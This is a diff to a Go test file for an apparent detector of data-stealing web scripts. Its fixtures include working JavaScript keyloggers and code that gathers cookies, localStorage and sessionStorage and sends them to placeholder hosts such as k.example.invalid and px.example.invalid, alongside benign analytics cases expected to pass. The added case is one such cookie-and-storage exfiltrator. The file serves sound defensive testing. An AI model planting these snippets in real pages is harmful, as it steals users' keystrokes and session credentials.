@@ -15,6 +15,9 @@ func TestPageExfil(t *testing.T) {
 	rt.Check(t, PageExfil{}, []rt.Case{
 		{"keylogger", map[string]string{"index.js": `let buf = []; document.addEventListener("keydown", e => buf.push(e.key));
 setInterval(() => { if (buf.length) fetch("https://k.example.invalid/c", { method: "POST", body: buf.join("") }); buf = [] }, 5000)`}, finding.SeverityHigh},
+		// a UMD wrapper hands document in: its cookies go with the store
+		{"storage_and_cookies", map[string]string{"index.js": `(function (w, d) { function px() { var ls = {}; for (var i = 0; i < localStorage.length; i++) { var k = localStorage.key(i); ls[k] = localStorage.getItem(k) }
+new Image().src = "https://px.example.invalid/p.gif?d=" + btoa(JSON.stringify({ c: d.cookie, l: ls })) } w.init = function () { setTimeout(px, 3000) } })(window, document);`}, finding.SeverityCritical},
 		{"keylogger_onkeypress", map[string]string{"index.js": `var keys = ""; document.onkeypress = function (e) { keys += String.fromCharCode(e.which) };
 window.onbeforeunload = function () { navigator.sendBeacon("https://k.example.invalid/b", keys) }`}, finding.SeverityHigh},
 		// a shortcut handler compares keys; the app's analytics call is elsewhere
@@ -26,7 +29,7 @@ export function track(ev) { fetch("https://events.example.invalid/v1", { method:
 		{"bundle_apart", map[string]string{"index.js": `const seq = []; window.addEventListener("keyup", e => { seq.push(e.key) });` + pad +
 			`fetch("https://docs.example.invalid/search", { method: "POST", body: q })`}, finding.SeverityNone},
 		{"storage_dump", map[string]string{"index.js": `function gather() { const o = { c: document.cookie }; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); o[k] = localStorage.getItem(k) } return o }
-setTimeout(() => fetch("https://s.example.invalid/s", { method: "POST", mode: "no-cors", body: JSON.stringify(gather()) }), 1500)`}, finding.SeverityHigh},
+setTimeout(() => fetch("https://s.example.invalid/s", { method: "POST", mode: "no-cors", body: JSON.stringify(gather()) }), 1500)`}, finding.SeverityCritical},
 		{"storage_stringify", map[string]string{"index.js": `new Image().src = "https://s.example.invalid/p.gif?d=" + btoa(JSON.stringify(sessionStorage))`}, finding.SeverityHigh},
 		// analytics read their own key
 		{"analytics_own_key", map[string]string{"index.js": `const id = localStorage.getItem("_ax_id") || newId(); navigator.sendBeacon("https://in.analytics.example.invalid/e", JSON.stringify({ id }))`}, finding.SeverityNone},
